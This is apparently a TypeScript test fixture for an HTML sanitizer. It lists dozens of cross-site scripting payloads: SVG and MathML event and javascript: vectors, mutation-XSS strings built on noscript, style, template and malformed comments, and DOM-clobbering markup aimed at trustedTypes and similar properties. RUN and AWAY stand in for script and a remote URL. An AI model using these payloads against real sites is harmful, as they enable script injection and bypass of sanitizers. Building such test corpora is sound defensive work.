/** SVG and MathML, where other rules of reading hold. */
const drawings = [
  ...[
    '<svg onload=RUN>',
    '<svg/onload=RUN>',
    '<svg\nonload=RUN>',
    '<svg><script>RUN</script></svg>',
    '<svg><script/href=AWAY />',
  ],
  ...[
    '<svg><script xlink:href=AWAY></script></svg>',
    '<svg><a href=javascript:RUN><text y=9>x</text></a></svg>',
  ],
  ...[
    '<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  ],
  ...[
    '<svg><animate attributeName=href values=javascript:RUN /><a><text>x</text></a></svg>',
    '<svg><set onbegin=RUN attributeName=x>',
  ],
  ...[
    '<svg><set attributeName=onload to=RUN />',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>',
  ],
  ...[
    '<svg><image href=AWAY /></svg>',
    '<svg><feImage href=AWAY /></svg>',
    '<svg><foreignObject><iframe src=javascript:RUN>',
  ],
  ...[
    '<svg><foreignObject><body onload=RUN>',
    '<svg><style>@import "AWAY"</style></svg>',
    '<svg><title><img src=x onerror=RUN></title>',
  ],
  ...[
    '<svg><desc><img src=x onerror=RUN></desc></svg>',
    '<svg><handler type=text/javascript>RUN</handler></svg>',
  ],
  ...[
    '<svg><animateMotion onend=RUN>',
    '<svg><animateTransform onbegin=RUN attributeName=transform>',
    '<svg><discard onbegin=RUN>',
  ],
  ...[
    '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>',
    '<svg xmlns="&#x68;ttp://www.w3.org/2000/svg" onload=RUN>',
  ],
  ...[
    '<math href=javascript:RUN>x</math>',
    '<math><mi xlink:href=javascript:RUN>x</mi></math>',
    '<math><mtext><script>RUN</script>',
  ],
  ...[
    '<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction>',
    '<math><annotation-xml encoding=text/html><script>RUN',
  ],
  ...[
    '<math><mglyph src=AWAY>',
    '<math><semantics><annotation-xml><img src=x onerror=RUN></semantics>',
    '<math xml:base=javascript:RUN><a href=#>x',
  ],
];

/** What becomes something else when it is written and read once more. */
const mutations = [
  ...[
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  ],
  ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">'],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
    '<svg><style><img src=x onerror=RUN></style>',
  ],
  ...[
    '<math><style><img src=x onerror=RUN></style></math>',
    '<template><script>RUN</script></template>',
    '<template shadowrootmode=open><script>RUN</script>',
  ],
  ...[
    '<select><template><img src=x onerror=RUN></template></select>',
    '<table><tr><td><svg><desc><td><img src=x onerror=RUN>',
  ],
  ...[
    '<xmp><p title="</xmp><img src=x onerror=RUN>">',
    '<noembed><p title="</noembed><img src=x onerror=RUN>">',
    '<plaintext><img src=x onerror=RUN>',
  ],
  ...[
    '<noframes><p title="</noframes><svg onload=RUN>">',
    '<iframe><p title="</iframe><img src=x onerror=RUN>">',
  ],
  ...[
    '<textarea><p title="</textarea><img src=x onerror=RUN>">',
    '<title><p title="</title><svg onload=RUN>">',
    '<!--><img src=x onerror=RUN>-->',
  ],
  ...[
    '<!--><svg onload=RUN>',
    '<!---!><img src=x onerror=RUN>',
    '<!-- --!><img src=x onerror=RUN> -->',
    '<![><img src=x onerror=RUN>',
  ],
  ...[
    '<?xml version="1.0"?><img src=x onerror=RUN>',
    '<?php echo "<img src=x onerror=RUN>" ?>',
    '</<img src=x onerror=RUN>',
    '<//><img src=x onerror=RUN>',
  ],
  ...[
    '<a<img src=x onerror=RUN>',
    '<img """><script>RUN</script>">',
    '<img src="x` `<script>RUN</script>"` `>',
    "<img title='`onerror=RUN`' src=x>",
  ],
  ...[
    '<p id="`><img src=x onerror=RUN>">',
    '<b <script>RUN</script>',
    '<img src=x:x onerror=RUN//',
    '<img/src=x/onerror=RUN>',
    '<svg/><svg/onload=RUN>',
  ],
  ...[
    '<img\x0bsrc=x\x0conerror=RUN>',
    '<img\x00 src=x onerror=RUN>',
    '<i\x00mg src=x onerror=RUN>',
    '<im\ng src=x onerror=RUN>',
  ],
  ...[
    '<a href="x" onmouseover="RUN" style="position:fixed;inset:0">',
    '<div id=x></div><a name=x><a name=x id=y>',
    '<form name=body><input name=innerHTML>',
  ],
  ...[
    '<a id=trustedTypes></a><a id=trustedTypes name=defaultPolicy>',
    '<img name=createElement>',
    '<input name=attributes><input form=x>',
  ],
];

export const foreignContent: string[] = [...drawings, ...mutations];
